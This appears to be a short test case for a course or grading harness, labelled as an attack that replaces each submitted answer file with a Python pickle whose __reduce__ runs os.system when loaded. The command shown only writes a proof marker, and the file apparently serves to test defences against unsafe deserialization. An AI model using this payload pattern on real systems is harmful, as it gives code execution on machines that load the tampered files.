# attack: the answer file is no archive but a pickle
# wants: disturb
# grade: 0
# honest: 0
# %% after
import os, pickle
from pathlib import Path
class Runs:
    def __reduce__(self):
        return (os.system, ("echo PROOF > @COURSE@/pickled",))
for slot in Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers").glob("*"):
    slot.write_bytes(pickle.dumps(Runs()))
check = lambda *a: None
